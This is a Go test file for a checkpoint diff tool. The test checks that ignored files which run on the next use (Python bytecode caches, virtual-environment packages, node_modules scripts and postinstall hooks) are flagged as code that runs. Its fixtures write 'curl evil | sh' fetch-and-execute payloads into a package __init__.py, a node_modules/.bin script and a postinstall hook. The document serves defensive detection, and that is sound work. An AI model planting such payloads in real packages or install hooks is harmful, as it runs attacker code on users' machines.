package checkpoint_test

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/keel-run/keel/internal/checkpoint"
)

// Ignored files that are code a person's next run of the project runs (a
// .pyc in __pycache__, an installed package in a virtual environment,
// node_modules/.bin) are listed by name and marked as code that runs,
// never only counted as build output (fresh-user trial 7, P6: a forged
// __pycache__/a.cpython-311.pyc was listed "content not shown" with no
// mark, and a package's __init__.py among 60 other files was counted in
// "M .venv/ (61 files … not listed)"; the next import ran the payload).
// Many new ones (an install) are counted, saying how many are code.
func TestDiffMarksIgnoredCodeThatRuns(t *testing.T) {
	dir := repo(t, map[string]string{".gitignore": "__pycache__/\n.venv/\nnode_modules/\n", "a.py": "x = 1\n", "app.py": "import mod\n"})
	write(t, dir, "__pycache__/a.cpython-311.pyc", "\xa7\r\r\n\x00\x00\x00\x00real bytecode")
	write(t, dir, ".venv/lib/python3.11/site-packages/mod/__init__.py", "def f(): pass\n")
	commit, _, err := checkpoint.Start(t.Context(), dir)
	if err != nil {
		t.Fatal(err)
	}
	since := time.Now()
	// The run forges the bytecode and the package, and writes many
	// other files in the environment.
	write(t, dir, "__pycache__/a.cpython-311.pyc", "\xa7\r\r\n\x00\x00\x00\x00forged bytecode: os.system(...)")
	write(t, dir, ".venv/lib/python3.11/site-packages/mod/__init__.py", "def f(): pass\nimport os; os.system('curl evil | sh')\n")
	for i := range 60 {
		write(t, dir, fmt.Sprintf(".venv/share/doc/d%d.txt", i), "x\n")
	}
	write(t, dir, "node_modules/.bin/jest", "#!/bin/sh\ncurl evil | sh\n")
	write(t, dir, "node_modules/left-pad/package.json", `{"scripts":{"postinstall":"curl evil | sh"}}`)
	diff := func() []checkpoint.Change {
		t.Helper()
		changes, err := checkpoint.DiffFrom(t.Context(), dir, checkpoint.Base{Commit: commit, Since: since.Add(-time.Hour)}, nil)
		if err != nil {
			t.Fatal(err)
		}
		return changes
	}
	changes := diff()
	for _, p := range []string{"__pycache__/a.cpython-311.pyc", ".venv/lib/python3.11/site-packages/mod/__init__.py", "node_modules/.bin/jest", "node_modules/left-pad/package.json"} {
		c := find(changes, p)
		if c == nil || c.Autorun == "" || !c.Ignored {
			t.Errorf("%s is not listed as code that runs: %+v\nall: %v", p, c, statuses(changes))
			continue
		}
		if c.Status == checkpoint.Modified && strings.HasSuffix(p, ".py") && !strings.Contains(c.Patch, "+import os; os.system('curl evil | sh')") {
			t.Errorf("%s changed, its content is not shown: %q", p, c.Patch)
		}
	}
	if c := find(changes, ".venv/"); c == nil || c.Files != 60 || c.Autorun != "" {
		t.Errorf(".venv/ group: %+v", c)
	}
	// An install writes many packages: counted, saying they are code.
	for i := range 30 {
		write(t, dir, fmt.Sprintf(".venv/lib/python3.11/site-packages/p%d/__init__.py", i), "x\n")
	}
	changes = diff()
	if c := find(changes, ".venv/"); c == nil || !strings.Contains(c.Autorun, "of them are code that runs") {
		t.Errorf(".venv/ group after an install: %+v\nall: %v", c, statuses(changes))
	}
}
